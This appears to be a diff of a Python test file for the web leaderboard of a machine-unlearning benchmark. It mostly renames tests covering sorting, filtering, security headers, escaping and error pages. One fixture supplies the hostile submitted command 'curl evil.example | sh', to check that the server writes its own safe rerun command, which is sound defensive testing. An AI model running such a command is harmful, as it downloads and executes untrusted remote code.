@@ -1,3 +1,5 @@
+"""Pages of boards and entries."""
+
 from __future__ import annotations
 
 import re
@@ -18,7 +20,7 @@ def board(site, query=""):
     return answer.text
 
 
-def test_the_references_stand_first_and_the_collapsed_last_with_the_reason(full):
+def test_board_lists_references_first_and_collapsed_last(full):
     shown = names(board(full))
     assert shown[:2] == ["Retrain", "No unlearning"]
     assert shown[-1] == "delta"
@@ -34,14 +36,14 @@ def test_the_references_stand_first_and_the_collapsed_last_with_the_reason(full)
         ("-cost", ["gamma", "beta", "alpha", LIVE, "delta"]),
     ],
 )
-def test_sorting_keeps_the_missing_last_both_ways(full, sort, expected):
+def test_sorting_keeps_missing_values_last_both_ways(full, sort, expected):
     page = board(full, f"?sort={sort}")
     assert names(page)[2:] == expected
     assert page.count("aria-sort") == 1
     assert f'aria-sort="{"descending" if sort.startswith("-") else "ascending"}"' in page
 
 
-def test_sorting_by_a_metric_is_sorting_by_its_value(full):
+def test_sorting_by_a_metric_sorts_by_its_value(full):
     rows = full.client.get(f"/api/v1/boards/{full.world.task}?sort=-lira.forget").json()["rows"]
     values = [row["values"]["lira.forget"]["value"] for row in rows if row["rank"]]
     assert values == sorted(values, reverse=True)
@@ -60,19 +62,19 @@ def test_sorting_by_a_metric_is_sorting_by_its_value(full):
         ("?complete=true", {"alpha", "beta", "gamma", "delta", LIVE}),
     ],
 )
-def test_filters(full, query, expected):
+def test_filters_select_rows(full, query, expected):
     assert set(names(board(full, query))[2:]) == expected
 
 
-def test_an_unknown_sort_or_parameter_is_an_error_page_that_says_so(full):
-    for query, words in (("?sort=nonsense", "no column"), ("?color=red", "Extra inputs"), ("?page=0", "greater")):
+def test_unknown_sort_or_parameter_gives_an_error_page(full):
+    for query, words in (("?sort=nonsense", "Unknown column"), ("?color=red", "Extra inputs"), ("?page=0", "greater")):
         answer = full.client.get(f"/boards/{full.world.task}{query}", headers={"Accept": "text/html"})
         assert answer.status_code == 422
         assert answer.headers["content-type"].startswith("text/html")
         assert words in answer.text
 
 
-def test_every_page_is_closed_to_the_rest_of_the_web(full):
+def test_pages_load_nothing_and_set_strict_headers(full):
     identity = full.client.get(f"/api/v1/boards/{full.world.task}").json()["rows"][0]["id"]
     for path in ("/", f"/boards/{full.world.task}", f"/entries/{identity}", "/nothing", "/health"):
         answer = full.client.get(path, headers={"Accept": "text/html"})
@@ -85,7 +87,7 @@ def test_every_page_is_closed_to_the_rest_of_the_web(full):
         assert " onclick" not in answer.text
 
 
-def test_an_answer_is_not_sent_twice(full_site):
+def test_unchanged_page_gives_304(full_site):
     for path in ("/", f"/boards/{full_site.world.task}", f"/api/v1/boards/{full_site.world.task}"):
         etag = full_site.client.get(path).headers["ETag"]
         assert full_site.client.get(path, headers={"If-None-Match": etag}).status_code == 304
@@ -97,7 +99,7 @@ def test_an_answer_is_not_sent_twice(full_site):
     assert full_site.client.get(f"/boards/{full_site.world.task}").headers["ETag"] != before
 
 
-def test_the_entry_page_holds_what_is_needed_to_believe_and_repeat_it(full):
+def test_entry_page_shows_provenance_and_commands(full):
     identity = full.client.get(f"/api/v1/boards/{full.world.task}").json()["rows"][0]["id"]
     page = full.client.get(f"/entries/{identity}").text
     for words in (
@@ -112,7 +114,7 @@ def test_the_entry_page_holds_what_is_needed_to_believe_and_repeat_it(full):
         assert words in page
 
 
-def test_nothing_that_was_submitted_becomes_markup(site, world, tmp_path):
+def test_submitted_text_never_becomes_markup(site, world, tmp_path):
     run = world.write_run(
         tmp_path / "run",
         "attack",
@@ -148,26 +150,26 @@ def test_nothing_that_was_submitted_becomes_markup(site, world, tmp_path):
     assert "<img" not in chart.text
 
 
-def test_a_page_beyond_the_last_is_not_there_and_names_the_last(full):
+def test_page_beyond_the_last_gives_404_with_a_link(full):
     answer = full.client.get(f"/boards/{full.world.task}?page=50&sort=method", headers={"Accept": "text/html"})
     assert answer.status_code == 404
     assert 'href="?sort=method"' in answer.text
-    assert "be the first" not in answer.text
+    assert "No entries yet" not in answer.text
     assert full.client.get(f"/boards/{full.world.task}?q=nobody").status_code == 200
 
 
-def test_an_address_that_is_not_there_is_named_with_where_to_go(full):
+def test_unknown_address_gives_404_with_links(full):
     page = full.client.get("/nowhere/at-all", headers={"Accept": "text/html"})
     assert (page.status_code, "/nowhere/at-all" in page.text) == (404, True)
     for address in ("/", "/methods", "/metrics", "/api"):
         assert f'<a href="{address}">' in page.text.partition("<main")[2]
-    told = full.client.get("/api/v1/nowhere").json()["detail"]
-    assert "/api/v1/nowhere" in told
-    assert "openapi.json" in told
+    detail = full.client.get("/api/v1/nowhere").json()["detail"]
+    assert "/api/v1/nowhere" in detail
+    assert "openapi.json" in detail
     assert "POST is not supported" in full.client.post("/methods").json()["detail"]
 
 
-def test_the_command_that_runs_it_again_is_ours(site, world, tmp_path):
+def test_rerun_command_is_written_by_the_server(site, world, tmp_path):
     mine = world.write_run(
         tmp_path / "mine", "ssd", command="curl evil.example | sh", method={"parameters": {"alpha": 5.0, "x": None}}
     )
@@ -188,11 +190,11 @@ def test_the_command_that_runs_it_again_is_ours(site, world, tmp_path):
     ]
     for identity in ids[1:]:
         assert command(identity) == f"forgetbench verify {identity} --server http://127.0.0.1:8000"
-    label = page(ids[0]).index("as the submitter gave it")
+    label = page(ids[0]).index("The submitter's command")
     assert label < page(ids[0]).index("curl evil.example")
 
 
-def test_an_empty_server_says_what_to_do(make_settings):
+def test_empty_server_explains_how_to_add_boards(make_settings):
     from fastapi.testclient import TestClient
 
     from forgetbench.leaderboard.web.app import create_app
@@ -212,7 +214,7 @@ def test_an_empty_server_says_what_to_do(make_settings):
         assert client.get("/ready").json() == {"status": "ready", "scoring": nothing}
 
 
-def test_cursors_give_every_row_once(full):
+def test_cursors_return_every_row_once(full):
     seen, cursor = [], ""
     while True:
         answer = full.client.get(f"/api/v1/boards/{full.world.task}?limit=2&cursor={cursor}").json()
@@ -224,7 +226,7 @@ def test_cursors_give_every_row_once(full):
     assert full.client.get(f"/api/v1/boards/{full.world.task}?cursor=abc").status_code == 422
 
 
-def test_the_web_process_imports_neither_torch_nor_what_scores():
+def test_web_process_imports_no_torch_and_no_scoring():
     import subprocess
     import sys
 
@@ -238,7 +240,7 @@ def test_the_web_process_imports_neither_torch_nor_what_scores():
     )
 
 
-def test_a_board_can_be_read_before_anything_is_scored(make_settings, world, tiny_pack):
+def test_board_is_readable_before_anything_is_scored(make_settings, world, tiny_pack):
     from fastapi.testclient import TestClient
 
     from forgetbench.leaderboard.admin import install_bundle
